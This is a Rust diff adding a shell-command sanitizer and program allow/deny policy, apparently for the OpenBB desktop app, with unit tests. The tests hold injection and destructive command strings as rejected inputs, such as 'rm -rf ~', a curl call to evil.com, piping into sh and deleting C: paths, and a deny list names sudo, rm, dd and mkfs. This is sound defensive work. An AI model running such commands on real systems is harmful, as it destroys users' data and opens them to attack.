@@ -1,6 +1,7 @@
 // Command Input Sanitizer and Validator
-use crate::tauri_handlers::helpers::{EnvSystem, FileSystem};
+use crate::tauri_handlers::helpers::{EnvSystem, FileSystem, user_preferences};
 use regex::Regex;
+use serde::Deserialize;
 use std::path::Path;
 use std::sync::OnceLock;
 
@@ -425,6 +426,499 @@ pub fn validate_command_simple(command: &str) -> Result<(), String> {
     validate_command_input(command, &RealFileSystem, &RealEnvSystem)
 }
 
+/// Characters a POSIX shell acts on outside quotes: command separators, pipes,
+/// redirection, subshells, expansion and line breaks
+pub const POSIX_BLOCKED_UNQUOTED: &[char] =
+    &[';', '&', '|', '<', '>', '(', ')', '$', '`', '\n', '\r'];
+
+/// Characters a POSIX shell still expands inside double quotes
+pub const POSIX_BLOCKED_DOUBLE_QUOTED: &[char] = &['$', '`'];
+
+/// Characters cmd.exe acts on outside quotes: command separators, pipes,
+/// redirection, its `^` escape and line breaks
+pub const CMD_BLOCKED_UNQUOTED: &[char] = &['&', '|', '<', '>', '^', '\n', '\r'];
+
+/// Characters cmd.exe expands even inside quotes: `%VAR%` and, with delayed
+/// expansion on, `!VAR!`
+pub const CMD_BLOCKED_ANYWHERE: &[char] = &['%', '!'];
+
+/// Programs refused unless the user's policy replaces the deny list. Like the rest of
+/// the command policy this is a best-effort guard against mistakes, not a security
+/// boundary: any program that is allowed (python, a script, a shell reading a file)
+/// can still do whatever the user can.
+pub const DEFAULT_DENIED_PROGRAMS: &[&str] = &[
+    "sudo", "su", "doas", "runas", "rm", "rmdir", "del", "erase", "rd", "format", "mkfs", "dd",
+    "diskpart", "bcdedit", "reg", "sc", "shutdown", "reboot",
+];
+
+/// Shell a command line is handed to
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ShellKind {
+    /// `sh`/`bash` on macOS and Linux
+    Posix,
+    /// `cmd.exe` on Windows
+    Cmd,
+}
+
+impl ShellKind {
+    pub fn for_os(os: &str) -> Self {
+        if os == "windows" {
+            ShellKind::Cmd
+        } else {
+            ShellKind::Posix
+        }
+    }
+}
+
+/// Which programs commands run in an environment may start, stored as
+/// `preferences.command_policy` (`{"allow": [...], "deny": [...]}`). An empty allow
+/// list permits anything not denied; the deny list always wins.
+#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
+#[serde(default)]
+pub struct CommandPolicy {
+    pub allow: Vec<String>,
+    pub deny: Vec<String>,
+}
+
+impl Default for CommandPolicy {
+    fn default() -> Self {
+        Self {
+            allow: Vec::new(),
+            deny: DEFAULT_DENIED_PROGRAMS
+                .iter()
+                .map(|program| program.to_string())
+                .collect(),
+        }
+    }
+}
+
+impl CommandPolicy {
+    pub fn check_program(&self, program: &str) -> Result<(), String> {
+        let name = program_name(program);
+        if name.is_empty() {
+            return Err("Command has no program to run".to_string());
+        }
+
+        let listed = |list: &[String]| list.iter().any(|entry| program_name(entry) == name);
+        if listed(&self.deny) {
+            return Err(format!(
+                "Running '{name}' is not allowed by the command policy"
+            ));
+        }
+        if !self.allow.is_empty() && !listed(&self.allow) {
+            return Err(format!(
+                "'{name}' is not on the command policy's allow list"
+            ));
+        }
+        Ok(())
+    }
+}
+
+/// The user's command policy, or the default when none (or an invalid one) is set
+pub fn command_policy<F: FileSystem, E: EnvSystem>(fs: &F, env_sys: &E) -> CommandPolicy {
+    let value = user_preferences(fs, env_sys)["command_policy"].clone();
+    if value.is_null() {
+        return CommandPolicy::default();
+    }
+    serde_json::from_value(value).unwrap_or_else(|e| {
+        log::warn!("Ignoring invalid command_policy preference: {e}");
+        CommandPolicy::default()
+    })
+}
+
+// A program that runs the rest of its arguments as a command, which is checked too.
+// Programs that take the command in other shapes are not covered: `xargs` builds it
+// from its input, `find -exec` from the arguments before `;`, and `busybox` runs any
+// applet by name.
+struct CommandWrapper {
+    name: &'static str,
+    // Options followed by a separate value
+    value_options: &'static [&'static str],
+    // Arguments between the options and the command, like timeout's duration
+    positional: usize,
+}
+
+const COMMAND_WRAPPERS: &[CommandWrapper] = &[
+    CommandWrapper {
+        name: "env",
+        value_options: &["-u", "--unset", "-C", "--chdir"],
+        positional: 0,
+    },
+    CommandWrapper {
+        name: "exec",
+        value_options: &["-a"],
+        positional: 0,
+    },
+    CommandWrapper {
+        name: "nice",
+        value_options: &["-n", "--adjustment"],
+        positional: 0,
+    },
+    CommandWrapper {
+        name: "nohup",
+        value_options: &[],
+        positional: 0,
+    },
+    CommandWrapper {
+        name: "command",
+        value_options: &[],
+        positional: 0,
+    },
+    CommandWrapper {
+        name: "time",
+        value_options: &["-f", "--format", "-o", "--output"],
+        positional: 0,
+    },
+    CommandWrapper {
+        name: "timeout",
+        value_options: &["-s", "--signal", "-k", "--kill-after"],
+        positional: 1,
+    },
+    CommandWrapper {
+        name: "stdbuf",
+        value_options: &["-i", "-o", "-e"],
+        positional: 0,
+    },
+    CommandWrapper {
+        name: "ionice",
+        value_options: &["-c", "-n"],
+        positional: 0,
+    },
+    // cmd.exe's start, whose options begin with '/'. Its optional quoted title is
+    // dropped before the words get here, see `shell_words`.
+    CommandWrapper {
+        name: "start",
+        value_options: &["/d"],
+        positional: 0,
+    },
+];
+
+// Shells whose -c argument is a script of further commands
+const POSIX_SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];
+
+// Words that can come before a command's program in a shell script
+const POSIX_RESERVED_WORDS: &[&str] = &[
+    "!", "{", "}", "if", "then", "else", "elif", "while", "until", "do",
+];
+
+// Lowercased file name without directory or Windows executable extension
+fn program_name(program: &str) -> String {
+    let file_name = program.rsplit(['/', '\\']).next().unwrap_or(program);
+    let lower = file_name.trim().to_lowercase();
+    match lower.rsplit_once('.') {
+        Some((stem, "exe" | "com" | "bat" | "cmd")) => stem.to_string(),
+        _ => lower,
+    }
+}
+
+// Words of a command line with quotes and escapes removed, as `shell` would split them
+fn command_words(command: &str, shell: ShellKind) -> Vec<String> {
+    let mut words = Vec::new();
+    let mut word = String::new();
+    let mut in_word = false;
+    let mut quote = None;
+    let mut chars = command.chars();
+    while let Some(ch) = chars.next() {
+        match (quote, ch) {
+            (None, c) if c.is_whitespace() => {
+                if in_word {
+                    words.push(std::mem::take(&mut word));
+                    in_word = false;
+                }
+            }
+            (None, '"') => quote = Some(ch),
+            (None, '\'') if shell == ShellKind::Posix => quote = Some(ch),
+            (Some(open), c) if c == open => quote = None,
+            // Backslash escapes in sh except inside single quotes; caret escapes in cmd.exe
+            (q, '\\') if shell == ShellKind::Posix && q != Some('\'') => {
+                word.extend(chars.next());
+            }
+            (None, '^') if shell == ShellKind::Cmd => word.extend(chars.next()),
+            (_, c) => word.push(c),
+        }
+        in_word |= !(quote.is_none() && ch.is_whitespace());
+    }
+    if in_word {
+        words.push(word);
+    }
+    words
+}
+
+// `NAME=value`, which the shell and env read as an environment variable
+fn is_assignment(word: &str) -> bool {
+    word.split_once('=').is_some_and(|(name, _)| {
+        name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+    })
+}
+
+// Check every program a command starts: its first word after any `NAME=value`
+// assignments, the command a wrapper like env or nice goes on to run, and the script
+// a shell is handed with -c or /c
+fn check_command_words(words: &[String], policy: &CommandPolicy) -> Result<(), String> {
+    let Some(start) = words.iter().position(|word| !is_assignment(word)) else {
+        return Err("Command has no program to run".to_string());
+    };
+    let (program, args) = (&words[start], &words[start + 1..]);
+    policy.check_program(program)?;
+
+    let name = program_name(program);
+    if let Some(wrapper) = COMMAND_WRAPPERS.iter().find(|wrapper| wrapper.name == name) {
+        // A bare `env` or `time` runs nothing else
+        return match wrapped_command(wrapper, args) {
+            Some(command) => check_command_words(&command, policy),
+            None => Ok(()),
+        };
+    }
+    if POSIX_SHELLS.contains(&name.as_str())
+        && let Some(script) = posix_inline_script(args)
+    {
+        return check_inline_script(script, ShellKind::Posix, policy);
+    }
+    if name == "cmd"
+        && let Some(flag) = args
+            .iter()
+            .position(|arg| arg.eq_ignore_ascii_case("/c") || arg.eq_ignore_ascii_case("/k"))
+    {
+        return check_inline_script(&args[flag + 1..].join(" "), ShellKind::Cmd, policy);
+    }
+    if matches!(name.as_str(), "powershell" | "pwsh") && runs_inline_powershell(&name, args) {
+        return Err(
+            "PowerShell commands can't be checked against the command policy; run the program directly"
+                .to_string(),
+        );
+    }
+    Ok(())
+}
+
+// The command a wrapper runs: whatever follows its options and positional arguments.
+// `env -S` splits its value into more words of that command.
+fn wrapped_command(wrapper: &CommandWrapper, args: &[String]) -> Option<Vec<String>> {
+    let option_prefix = if wrapper.name == "start" { '/' } else { '-' };
+    let mut i = 0;
+    while let Some(arg) = args.get(i) {
+        if arg == "--" {
+            i += 1;
+            break;
+        }
+        if !arg.starts_with(option_prefix) || arg.len() == 1 {
+            break;
+        }
+        if wrapper.name == "env" {
+            let split = match arg.as_str() {
+                "-S" | "--split-string" => args.get(i + 1).map(|value| (value.as_str(), i + 2)),
+                _ => arg
+                    .strip_prefix("--split-string=")
+                    .or_else(|| arg.strip_prefix("-S"))
+                    .map(|value| (value, i + 1)),
+            };
+            if let Some((value, rest)) = split {
+                let mut words = command_words(value, ShellKind::Posix);
+                words.extend(args.get(rest..).unwrap_or_default().iter().cloned());
+                return Some(words);
+            }
+        }
+        i += if wrapper.value_options.contains(&arg.to_lowercase().as_str()) {
+            2
+        } else {
+            1
+        };
+    }
+    let command = args.get(i + wrapper.positional..)?;
+    (!command.is_empty()).then(|| command.to_vec())
+}
+
+// The script of `sh -c script`: the first argument after the options, if -c is among them
+fn posix_inline_script(args: &[String]) -> Option<&str> {
+    let mut inline = false;
+    for arg in args {
+        match arg.strip_prefix('-') {
+            Some(long) if long.starts_with('-') => {}
+            Some(flags) if !flags.is_empty() => inline |= flags.contains('c'),
+            _ => return inline.then_some(arg.as_str()),
+        }
+    }
+    None
+}
+
+// Whether PowerShell is given a command rather than a script file to run
+fn runs_inline_powershell(name: &str, args: &[String]) -> bool {
+    // powershell.exe reads a bare first argument as -Command, pwsh as -File
+    if name == "powershell" && args.first().is_some_and(|arg| !arg.starts_with(['-', '/'])) {
+        return true;
+    }
+    // Parameter names may be shortened to any prefix
+    args.iter().any(|arg| {
+        let Some(option) = arg.strip_prefix(['-', '/']) else {
+            return false;
+        };
+        let option = option.to_lowercase();
+        !option.is_empty()
+            && (option == "ec"
+                || "command".starts_with(&option)
+                || "encodedcommand".starts_with(&option))
+    })
+}
+
+// Check each command of a script run by a nested shell. The script is cut at every
+// separator, pipe, grouping and substitution character, quoted or not, so this errs
+// towards refusing.
+fn check_inline_script(
+    script: &str,
+    shell: ShellKind,
+    policy: &CommandPolicy,
+) -> Result<(), String> {
+    let separators: &[char] = match shell {
+        ShellKind::Posix => &[';', '&', '|', '(', ')', '`', '\n', '\r'],
+        ShellKind::Cmd => &['&', '|', '(', ')', '\n', '\r'],
+    };
+    for segment in script.split(separators) {
+        let mut words = shell_words(segment, shell);
+        if shell == ShellKind::Posix {
+            let reserved = words
+                .iter()
+                .take_while(|word| POSIX_RESERVED_WORDS.contains(&word.as_str()))
+                .count();
+            words.drain(..reserved);
+        }
+        if words.iter().all(|word| is_assignment(word)) {
+            continue;
+        }
+        check_command_words(&words, policy)?;
+    }
+    Ok(())
+}
+
+// Words of one command for the policy checks. In cmd.exe `start "title" ...` loses
+// its title, which is only told apart from the program by its quotes.
+fn shell_words(command: &str, shell: ShellKind) -> Vec<String> {
+    let mut words = command_words(command, shell);
+    let trimmed = command.trim_start();
+    let has_title = shell == ShellKind::Cmd
+        && trimmed
+            .get(..5)
+            .is_some_and(|word| word.eq_ignore_ascii_case("start"))
+        && trimmed[5..].starts_with(char::is_whitespace)
+        && trimmed[5..].trim_start().starts_with('"');
+    if has_title {
+        words.remove(1);
+    }
+    words
+}
+
+fn check_posix_syntax(command: &str) -> Result<(), String> {
+    let mut chars = command.chars();
+    let mut quote = None;
+    while let Some(ch) = chars.next() {
+        match quote {
+            Some('\'') => {
+                if ch == '\'' {
+                    quote = None;
+                }
+            }
+            Some(_) => match ch {
+                '"' => quote = None,
+                // Escaped characters inside double quotes are literal
+                '\\' => {
+                    chars.next();
+                }
+                c if POSIX_BLOCKED_DOUBLE_QUOTED.contains(&c) => {
+                    return Err(format!(
+                        "Command contains {c:?}, which the shell expands even inside double quotes"
+                    ));
+                }
+                _ => {}
+            },
+            None => match ch {
+                '\'' | '"' => quote = Some(ch),
+                '\\' => {
+                    if let Some(next) = chars.next()
+                        && POSIX_BLOCKED_UNQUOTED.contains(&next)
+                    {
+                        return Err(format!("Command contains {next:?} outside of quotes"));
+                    }
+                }
+                c if POSIX_BLOCKED_UNQUOTED.contains(&c) => {
+                    return Err(format!("Command contains {c:?} outside of quotes"));
+                }
+                _ => {}
+            },
+        }
+    }
+    if quote.is_some() {
+        return Err("Command has an unterminated quote".to_string());
+    }
+    Ok(())
+}
+
+fn check_cmd_syntax(command: &str) -> Result<(), String> {
+    let mut quoted = false;
+    for ch in command.chars() {
+        if CMD_BLOCKED_ANYWHERE.contains(&ch) {
+            return Err(format!(
+                "Command contains {ch:?}, which cmd.exe expands even inside quotes"
+            ));
+        }
+        if ch == '"' {
+            quoted = !quoted;
+        } else if !quoted && CMD_BLOCKED_UNQUOTED.contains(&ch) {
+            return Err(format!("Command contains {ch:?} outside of quotes"));
+        }
+    }
+    if quoted {
+        return Err("Command has an unterminated quote".to_string());
+    }
+    Ok(())
+}
+
+/// Check a command line before it is written into a shell script or passed to
+/// `cmd /c`. Quoted arguments are passed through as they are, so only characters the
+/// shell would still interpret are rejected: see `POSIX_BLOCKED_UNQUOTED`,
+/// `POSIX_BLOCKED_DOUBLE_QUOTED`, `CMD_BLOCKED_UNQUOTED` and `CMD_BLOCKED_ANYWHERE`.
+/// NUL bytes are rejected everywhere and every program the command starts must pass
+/// `policy`, including those behind `NAME=value` prefixes, wrappers like `env` and
+/// `nice`, and `sh -c`/`cmd /c` scripts.
+pub fn sanitize_shell_command(
+    command: &str,
+    shell: ShellKind,
+    policy: &CommandPolicy,
+) -> Result<(), String> {
+    let command = command.trim();
+    if command.is_empty() {
+        return Err("Command cannot be empty".to_string());
+    }
+    if command.contains('\0') {
+        return Err("Command contains invalid characters".to_string());
+    }
+
+    match shell {
+        ShellKind::Posix => check_posix_syntax(command)?,
+        ShellKind::Cmd => check_cmd_syntax(command)?,
+    }
+    check_command_words(&shell_words(command, shell), policy)
+}
+
+/// Check an argument vector that is run without a shell. Nothing in it is
+/// interpreted, so only NUL bytes and the policy on the programs it starts apply.
+pub fn validate_argv(argv: &[String], policy: &CommandPolicy) -> Result<(), String> {
+    if argv.is_empty() {
+        return Err("Command cannot be empty".to_string());
+    }
+    if argv.iter().any(|arg| arg.contains('\0')) {
+        return Err("Command contains invalid characters".to_string());
+    }
+    check_command_words(argv, policy)
+}
+
+/// Quote `arg` as a single POSIX shell word
+pub fn quote_posix_arg(arg: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=@%+,".contains(c);
+    if !arg.is_empty() && arg.chars().all(plain) {
+        return arg.to_string();
+    }
+    format!("'{}'", arg.replace('\'', r"'\''"))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -974,4 +1468,223 @@ mod tests {
         assert!(files.contains(&"file with spaces.py".to_string()));
         assert!(files.contains(&"config file.json".to_string()));
     }
+
+    #[test]
+    fn test_shell_injection_attempts_rejected() {
+        let policy = CommandPolicy::default();
+        let posix_attempts = [
+            "echo hello; rm -rf ~",
+            "python app.py && curl http://evil.com",
+            "python app.py || true",
+            "cat notes.txt | sh",
+            "echo $(whoami)",
+            "echo `whoami`",
+            "echo ${HOME}",
+            "echo hi > ~/.bashrc",
+            "python < /dev/zero",
+            "(sleep 1)",
+            "echo hi\nrm -rf ~",
+            "echo \"$(whoami)\"",
+            "echo \"`whoami`\"",
+            r"echo \; rm -rf ~",
+            "echo 'unterminated",
+            "echo hi\0",
+        ];
+        for cmd in posix_attempts {
+            assert!(
+                sanitize_shell_command(cmd, ShellKind::Posix, &policy).is_err(),
+                "Should be rejected for sh: {cmd:?}"
+            );
+        }
+
+        let cmd_attempts = [
+            "start cmd.exe /k echo hi & del C:\\important",
+            "python app.py | more",
+            "echo hi > C:\\Windows\\win.ini",
+            "echo ^& whoami",
+            "echo \"%USERPROFILE%\"",
+            "echo \"!PATH!\"",
+            "echo \"unterminated",
+            "echo hi\r\ndel C:\\important",
+        ];
+        for cmd in cmd_attempts {
+            assert!(
+                sanitize_shell_command(cmd, ShellKind::Cmd, &policy).is_err(),
+                "Should be rejected for cmd.exe: {cmd:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_benign_shell_commands_pass() {
+        let policy = CommandPolicy::default();
+        let posix_commands = [
+            "openbb-build",
+            "echo hello",
+            "python -c 'print(\"hi\"); import sys'",
+            "pip install --upgrade \"openbb[all]\"",
+            // Operators inside quotes belong to the program being started
+            "x-terminal-emulator -e \"cd /home/me && source /opt/conda/bin/activate openbb && exec bash\"",
+            "osascript -e \"\ntell application \\\"Terminal\\\"\n\tdo script \\\"cd /tmp && ls\\\"\nend tell\n\"",
+        ];
+        for cmd in posix_commands {
+            assert_eq!(
+                sanitize_shell_command(cmd, ShellKind::Posix, &policy),
+                Ok(()),
+                "Should pass for sh: {cmd:?}"
+            );
+        }
+
+        let cmd_commands = [
+            "openbb-build",
+            "start cmd.exe /k \"cd /d \"C:\\Users\\me\" && \"C:\\conda\\Scripts\\activate.bat\" openbb\"",
+            "start cmd.exe /k \"cd /d \"C:\\Users\\me\" && \"C:\\conda\\Scripts\\activate.bat\" openbb && python -i -c \"from openbb import obb; print(obb)\" && exit\"",
+        ];
+        for cmd in cmd_commands {
+            assert_eq!(
+                sanitize_shell_command(cmd, ShellKind::Cmd, &policy),
+                Ok(()),
+                "Should pass for cmd.exe: {cmd:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_command_policy_allow_and_deny() {
+        let default = CommandPolicy::default();
+        assert!(default.check_program("sudo").is_err());
+        assert!(default.check_program("/usr/bin/sudo").is_err());
+        assert!(
+            default
+                .check_program("C:\\Windows\\System32\\REG.EXE")
+                .is_err()
+        );
+        assert!(default.check_program("python").is_ok());
+        assert!(
+            sanitize_shell_command("\"rm\" -rf build", ShellKind::Posix, &default)
+                .unwrap_err()
+                .contains("not allowed")
+        );
+
+        let policy: CommandPolicy =
+            serde_json::from_value(serde_json::json!({"allow": ["python", "openbb-build"]}))
+                .unwrap();
+        // Only the allow list was given, so the default deny list still applies
+        assert_eq!(policy.deny, CommandPolicy::default().deny);
+        assert!(policy.check_program("python.exe").is_ok());
+        assert!(policy.check_program("openbb-build").is_ok());
+        assert!(
+            policy
+                .check_program("curl")
+                .unwrap_err()
+                .contains("allow list")
+        );
+
+        let policy = CommandPolicy {
+            allow: vec!["python".to_string()],
+            deny: vec!["python".to_string()],
+        };
+        assert!(policy.check_program("python").is_err());
+    }
+
+    #[test]
+    fn test_policy_sees_through_wrappers_and_nested_shells() {
+        let policy = CommandPolicy::default();
+        let posix_refused = [
+            "env rm -rf ~",
+            "FOO=1 rm -rf ~",
+            "env FOO=1 nice -n 5 rm -rf ~",
+            "exec sudo ls",
+            "timeout 10 rm -rf build",
+            "env -S 'rm -rf' ~",
+            r"r\m -rf ~",
+            "sh -c \"rm -rf ~\"",
+            "bash -lc 'echo hi; rm -rf ~'",
+            "sh -c 'echo `sudo id`'",
+            "sh -c 'if true; then rm -rf ~; fi'",
+            "sh -c 'sh -c \"rm -rf ~\"'",
+            "FOO=1",
+        ];
+        for cmd in posix_refused {
+            assert!(
+                sanitize_shell_command(cmd, ShellKind::Posix, &policy).is_err(),
+                "Should be refused for sh: {cmd:?}"
+            );
+        }
+
+        let cmd_refused = [
+            "cmd /c \"rmdir /s /q C:\\data\"",
+            "cmd.exe /k \"echo hi && del C:\\important\"",
+            "powershell -Command Remove-Item C:\\data",
+            "pwsh -c Remove-Item C:\\data",
+            "start rmdir /s /q C:\\data",
+            "start \"\" /B rmdir /s /q C:\\data",
+            "START \"Clean up\" /D C:\\tmp /WAIT rmdir /s /q C:\\data",
+            "cmd /c \"echo hi & start /min rmdir /s /q C:\\data\"",
+        ];
+        for cmd in cmd_refused {
+            assert!(
+                sanitize_shell_command(cmd, ShellKind::Cmd, &policy).is_err(),
+                "Should be refused for cmd.exe: {cmd:?}"
+            );
+        }
+
+        let allowed = [
+            "env FOO=1 python app.py",
+            "nice -n 10 openbb-api --port 6900",
+            "timeout 30 python -c 'print(1)'",
+            "sh -c \"python app.py\"",
+            "bash run.sh",
+            "env",
+        ];
+        for cmd in allowed {
+            assert_eq!(
+                sanitize_shell_command(cmd, ShellKind::Posix, &policy),
+                Ok(()),
+                "Should pass for sh: {cmd:?}"
+            );
+        }
+
+        // The title of start is not taken for the program it runs
+        let policy_allowing_python = CommandPolicy {
+            allow: vec!["start".to_string(), "python".to_string()],
+            deny: Vec::new(),
+        };
+        assert_eq!(
+            sanitize_shell_command(
+                "start \"API server\" /B python app.py",
+                ShellKind::Cmd,
+                &policy_allowing_python
+            ),
+            Ok(())
+        );
+
+        let argv = |args: &[&str]| args.iter().map(|a| a.to_string()).collect::<Vec<_>>();
+        assert!(validate_argv(&argv(&["env", "rm", "-rf", "~"]), &policy).is_err());
+        assert!(validate_argv(&argv(&["sh", "-c", "rm -rf ~"]), &policy).is_err());
+        assert!(validate_argv(&argv(&["cmd", "/c", "rmdir", "/s", "data"]), &policy).is_err());
+        assert!(validate_argv(&argv(&["nohup", "openbb-api"]), &policy).is_ok());
+    }
+
+    #[test]
+    fn test_validate_argv_skips_shell_checks() {
+        let policy = CommandPolicy::default();
+        let argv = |args: &[&str]| args.iter().map(|a| a.to_string()).collect::<Vec<_>>();
+
+        assert!(validate_argv(&argv(&["python", "-c", "print(1); print(2)"]), &policy).is_ok());
+        assert!(validate_argv(&argv(&["echo", "$(whoami) && `id`"]), &policy).is_ok());
+        assert!(validate_argv(&[], &policy).is_err());
+        assert!(validate_argv(&argv(&["echo", "a\0b"]), &policy).is_err());
+        assert!(validate_argv(&argv(&["sudo", "ls"]), &policy).is_err());
+    }
+
+    #[test]
+    fn test_quote_posix_arg() {
+        assert_eq!(quote_posix_arg("openbb"), "openbb");
+        assert_eq!(quote_posix_arg("/opt/conda/bin"), "/opt/conda/bin");
+        assert_eq!(quote_posix_arg(""), "''");
+        assert_eq!(quote_posix_arg("My Drive/conda"), "'My Drive/conda'");
+        assert_eq!(quote_posix_arg("$(whoami)"), "'$(whoami)'");
+        assert_eq!(quote_posix_arg("it's"), r"'it'\''s'");
+    }
 }